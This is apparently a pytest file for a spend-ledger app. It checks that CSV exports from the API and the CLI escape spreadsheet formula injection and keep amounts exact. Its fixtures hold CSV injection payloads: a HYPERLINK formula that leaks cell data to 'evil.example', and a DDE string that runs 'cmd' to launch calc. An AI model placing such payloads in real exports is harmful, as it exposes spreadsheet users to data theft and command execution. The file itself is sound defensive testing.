"""CSV injection: names clients sent reach spreadsheets as text, never as formulas, in the
API's CSV (which the explorer's export link downloads) and `report --format csv`; amounts
stay exact numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from clirun import Cli, cli_runner
from spendledger.exports.csvfile import safe_text, write_csv
from spendledger.records import UsageRecord
from spendledger.store import write_records
from usage_records import usage_record

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
NOVEMBER = {"from": "2026-11-01", "to": "2026-11-30"}


def _record(key: str, *, project: str, user: str, feature: str, cost: str) -> UsageRecord:
    return usage_record(
        key=key,
        start=datetime(2026, 11, 2, 10, tzinfo=UTC),
        model="gpt-4o",
        project=project,
        user=user,
        feature=feature,
        cost=cost,
    )


@pytest.fixture
def hostile(engine: Engine) -> Engine:
    """Spend under names that are formulas, and a credit of -1.50 under a plain name."""
    with engine.begin() as conn:
        write_records(
            conn,
            [
                _record("r1", project=HYPERLINK, user=CALC, feature="@SUM(A1:A9)", cost="2.25"),
                _record("r2", project="-2+3", user="\tuser", feature="\rfeature", cost="0.000000125"),
                _record("r3", project="web", user="ann", feature="chat", cost="-1.50"),
            ],
            tz=ZoneInfo("UTC"),
        )
    return engine


EXPECTED = [  # by cost, largest first
    {"project": "'" + HYPERLINK, "user": "'" + CALC, "feature": "'@SUM(A1:A9)", "cost": "2.25"},
    {"project": "'-2+3", "user": "'\tuser", "feature": "'\rfeature", "cost": "0.000000125"},
    {"project": "web", "user": "ann", "feature": "chat", "cost": "-1.50"},
]


def _rows(text: str) -> list[dict[str, str]]:
    rows = [
        {k: r[k] for k in ("project", "user", "feature", "cost")}
        for r in csv.DictReader(io.StringIO(text, newline=""))
    ]
    return sorted(rows, key=lambda r: Decimal(r["cost"]), reverse=True)


def test_csv_safety_api_neutralises_formulas_and_keeps_amounts(hostile: Engine, client: TestClient) -> None:
    response = client.get("/api/v1/spend", params={**NOVEMBER, "by": "project,user,feature", "format": "csv"})

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="spend-2026-11-01_2026-11-30.csv"'
    assert _rows(response.text) == EXPECTED
    # JSON is data, not a spreadsheet: the names stay as sent
    projects = {
        r["project"] for r in client.get("/api/v1/spend", params={**NOVEMBER, "by": "project"}).json()["rows"]
    }
    assert projects == {HYPERLINK, "-2+3", "web"}


def test_csv_safety_cli_report_neutralises_formulas(
    hostile: Engine, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cli: Cli = cli_runner(db_url, tmp_path, monkeypatch)
    out = cli("report", "--from", "2026-11-01", "--to", "2026-11-30", "--by", "project,user,feature",
              "--format", "csv").stdout  # fmt: skip

    assert _rows(out) == EXPECTED


def test_csv_safety_write_csv_types_cells() -> None:
    text = write_csv(
        ["name", "amount", "count", "none"],
        [
            ["=1+1", Decimal("-1.5"), -3, None],
            ["-x", Decimal("0.0000001"), 0, None],
            ["a=b", Decimal(2), 1, ""],
            ['say "hi", then\rgo', Decimal("-0.000000001"), 7, None],
        ],
    )

    assert text == (
        "name,amount,count,none\n'=1+1,-1.50,-3,\n'-x,0.0000001,0,\na=b,2.00,1,\n"
        '"say ""hi"", then\rgo",-0.000000001,7,\n'
    )
    assert list(csv.reader(io.StringIO(text, newline="")))[-1] == [
        'say "hi", then\rgo',
        "-0.000000001",
        "7",
        "",
    ]
    assert [safe_text(s) for s in ("", "=", "+", "-", "@", "\t", "\r", " =x", "x=")] == [
        "", "'=", "'+", "'-", "'@", "'\t", "'\r", " =x", "x=",
    ]  # fmt: skip
